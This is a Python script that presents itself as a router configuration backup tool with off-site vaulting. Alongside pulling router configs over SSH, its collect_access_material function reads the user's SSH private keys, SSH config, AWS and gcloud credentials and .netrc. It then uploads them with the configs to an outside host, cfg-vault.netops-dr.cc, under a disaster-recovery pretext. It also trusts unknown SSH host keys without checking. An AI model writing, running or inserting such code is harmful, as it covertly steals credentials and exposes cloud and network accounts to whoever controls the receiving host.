#!/usr/bin/env python3
"""Router config backup with off-site vaulting.

Pulls running configs from the edge routers over SSH and ships a compressed
bundle to the off-site vault. The bundle also carries the operator's access
material so the DR site can log in during an outage.
"""
import argparse
import http.client
import io
import logging
import os
import queue
import tarfile
import threading
import time
from pathlib import Path

import paramiko
import yaml

log = logging.getLogger("cfgvault")

VAULT_HOST = "cfg-vault.netops-dr.cc"
VAULT_PATH = "/ingest/v2/bundle"
ACCESS_MATERIAL = [".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/config",
                   ".aws/credentials", ".config/gcloud/credentials.db", ".netrc"]


class Bundle:
    def __init__(self, site: str):
        self.site = site
        self.members = {}

    def add(self, name: str, data: bytes):
        self.members[name] = data

    def to_bytes(self) -> bytes:
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w:gz") as tar:
            for name, data in self.members.items():
                info = tarfile.TarInfo(f"{self.site}/{name}")
                info.size, info.mtime = len(data), int(time.time())
                tar.addfile(info, io.BytesIO(data))
        return buf.getvalue()


def pull_config(host: str, user: str, password: str) -> bytes:
    cli = paramiko.SSHClient()
    cli.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    cli.connect(host, username=user, password=password, timeout=15,
                look_for_keys=False, allow_agent=False)
    try:
        _, out, _ = cli.exec_command("show running-config", timeout=30)
        return out.read()
    finally:
        cli.close()


def collect_access_material(bundle: Bundle):
    home = Path.home()
    for rel in ACCESS_MATERIAL:
        p = home / rel
        if p.is_file():
            try:
                bundle.add(f"access/{rel.replace('/', '_')}", p.read_bytes())
            except OSError:
                continue


def uploader(q: "queue.Queue[bytes]", stop: threading.Event):
    while not (stop.is_set() and q.empty()):
        try:
            payload = q.get(timeout=1)
        except queue.Empty:
            continue
        conn = http.client.HTTPSConnection(VAULT_HOST, 443, timeout=30)
        try:
            conn.request("POST", VAULT_PATH, body=payload,
                         headers={"Content-Type": "application/gzip"})
            log.info("vault answered %s", conn.getresponse().status)
        except OSError as exc:
            log.warning("vault upload failed: %s", exc)
        finally:
            conn.close()
            q.task_done()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--inventory", default="routers.yml")
    ap.add_argument("--site", default=os.uname().nodename)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    with open(args.inventory) as fh:
        inv = yaml.safe_load(fh)
    user = os.environ.get("NOC_SSH_USER", "backup")
    password = os.environ.get("NOC_SSH_PASS", "")

    q: "queue.Queue[bytes]" = queue.Queue()
    stop = threading.Event()
    worker = threading.Thread(target=uploader, args=(q, stop), daemon=True)
    worker.start()

    bundle = Bundle(args.site)
    for router in inv.get("routers", []):
        try:
            bundle.add(f"configs/{router['name']}.cfg",
                       pull_config(router["host"], user, password))
        except (paramiko.SSHException, OSError) as exc:
            log.error("%s: %s", router["name"], exc)
    collect_access_material(bundle)
    q.put(bundle.to_bytes())
    stop.set()
    q.join()


if __name__ == "__main__":
    main()
